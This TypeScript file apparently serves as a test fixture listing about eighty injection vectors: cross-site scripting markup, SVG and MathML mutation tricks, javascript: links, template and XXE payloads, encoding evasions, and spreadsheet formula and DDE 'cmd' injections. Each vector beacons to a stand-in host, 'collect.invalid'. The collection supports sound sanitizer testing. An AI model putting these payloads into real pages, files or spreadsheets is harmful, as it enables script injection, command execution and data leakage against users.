/** Where each vector would call, had it its way: a name that no resolver knows. */
export const elsewhere = 'http://collect.invalid'

/** What a script of a vector does: it notes itself on the window, and calls out. */
const act = (each: string): string => `top.hits=(top.hits||[]).concat('${each}');fetch('${elsewhere}/${each}')`

const image = (each: string): string => `<img src=x onerror="${act(each)}">`

/** Markup that runs or calls by itself wherever it is shown as more than text. */
export const selfRunning: readonly string[] = [
  `<script>${act('script')}</script>`,
  `<SCRIPT/x>${act('upper')}</SCRIPT>`,
  `<script src="${elsewhere}/src"></script>`,
  `<script type=module>${act('module')}</script>`,
  image('img'),
  `<img/src=x/onerror=${act('slashes')}>`,
  `<IMG """><SCRIPT>${act('quotes')}</SCRIPT>">`,
  `<svg onload="${act('svg')}"></svg>`,
  `<svg/onload=${act('svg-slash')}>`,
  `<svg><script>${act('svg-script')}</script></svg>`,
  `<svg><script href="${elsewhere}/svg-href"></script></svg>`,
  `<svg><animate onbegin="${act('animate')}" attributeName=x dur=1s></svg>`,
  `<svg><set onbegin="${act('set')}" attributeName=x></svg>`,
  `<svg><image href="${elsewhere}/svg-image"></image></svg>`,
  `<svg><use href="${elsewhere}/use#x"></use></svg>`,
  `<svg><style>@import '${elsewhere}/svg-style';</style></svg>`,
  `<svg><foreignObject>${image('foreign')}</foreignObject></svg>`,
  `"><img src=x onerror="${act('attribute')}">`,
  `'>${image('single')}`,
  `</textarea>${image('textarea')}`,
  `</title></style></script>${image('closers')}`,
  `<!--><img src=x onerror="${act('comment')}">-->`,
  `<noscript><p title="</noscript>${image('noscript').replaceAll('"', "'")}">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1&gt;" src=x onerror="${act('mutation')}">`,
  `<math><annotation-xml encoding="text/html">${image('annotation')}</annotation-xml></math>`,
  `<select><option>${image('select')}</select>${image('after-select')}`,
  `<table><td background="${elsewhere}/td">${image('table')}</td></table>`,
  `<template shadowrootmode="open">${image('shadow')}</template>${image('after-shadow')}`,
  `<iframe srcdoc="<script>top.hits=(top.hits||[]).concat('srcdoc')</script>"></iframe>`,
  `<iframe src="javascript:top.hits=(top.hits||[]).concat('iframe')"></iframe>`,
  `<iframe src="${elsewhere}/frame"></iframe>`,
  `<object data="${elsewhere}/object"></object>`,
  `<embed src="${elsewhere}/embed">`,
  `<input autofocus onfocus="${act('input')}"><input type=image src="${elsewhere}/input-image">`,
  `<details open ontoggle="${act('details')}"><summary>x</summary></details>`,
  `<video><source onerror="${act('video')}"></video>`,
  `<video poster="${elsewhere}/poster"></video>`,
  `<audio src=x onerror="${act('audio')}"></audio>`,
  `<body onload="${act('body')}">${image('in-body')}`,
  `<style>@keyframes x{}</style><b style="animation:x 1ms" onanimationstart="${act('animation')}">x</b>`,
  `<style>@import '${elsewhere}/import'; body { background: url(${elsewhere}/background) }</style>`,
  `<p style="background:url(${elsewhere}/style)">styled</p>`,
  `<img src="${elsewhere}/pixel">`,
  `<img srcset="${elsewhere}/srcset 1x">`,
  `<picture><source srcset="${elsewhere}/picture"><img></picture>`,
  `<link rel="stylesheet" href="${elsewhere}/sheet">`,
  `<link rel="icon" href="${elsewhere}/icon"><img src="${elsewhere}/beside-icon">`,
  `<marquee onstart="${act('marquee')}">x</marquee>${image('beside-marquee')}`,
]

/** Markup and text that want a press, another parser, or a template engine. */
const waiting: readonly string[] = [
  `' autofocus onfocus="${act('focus')}" x='`,
  `<a href="javascript:${act('link')}">press</a>`,
  `<a href="jav&#x09;ascript:${act('entity')}">press</a>`,
  `<a href="&#1;javascript:${act('control')}">press</a>`,
  `<a href="data:text/html,<script>${act('data')}</script>">press</a>`,
  `<a href="vbscript:msgbox(1)">press</a>`,
  `<a href="${elsewhere}/ping" ping="${elsewhere}/pinged">press</a>`,
  `<form action="${elsewhere}/form"><button autofocus formaction="javascript:${act('formaction')}">go</button></form>`,
  `<base href="${elsewhere}/">`,
  `<meta http-equiv="refresh" content="0;url=${elsewhere}/refresh">`,
  `<svg><a href="javascript:${act('svg-link')}"><text y=20>press</text></a></svg>`,
  `<b onmouseover="${act('hover')}">hover</b>`,
  `javascript:${act('bare')}`,
  `{{constructor.constructor('${act('template').replaceAll("'", '"')}')()}}`,
  `\${top.hits=['literal']}`,
  `<%= top.hits=['erb'] %>`,
  `]]><script>${act('cdata')}</script>`,
  `<!DOCTYPE x [<!ENTITY e SYSTEM "${elsewhere}/entity">]><x>&e;</x>`,
  `\u202Etpircs<\u202D ${image('bidi')}`,
  `\u0000<\u0000img src=x onerror=${act('nul')}>`,
  `＜script＞${act('wide')}＜/script＞`,
  `%3Cscript%3E${act('percent')}%3C/script%3E`,
  `&lt;script&gt;${act('doubly')}&lt;/script&gt;`,
]

/** What a spreadsheet would calculate, or fetch. */
export const formulas: readonly string[] = [
  `=HYPERLINK("${elsewhere}/cell","press")`,
  `=WEBSERVICE("${elsewhere}/service")`,
  `=IMPORTXML("${elsewhere}/xml","//a")`,
  `+cmd|' /C calc'!A1`,
  `-2+3+cmd|' /C calc'!A1`,
  `@SUM(1+1)*cmd|' /C calc'!A1`,
  `\t=1+1`,
  `\r=1+1`,
  `=1+1";=1+1`,
]

export const vectors: readonly string[] = [...selfRunning, ...waiting, ...formulas]
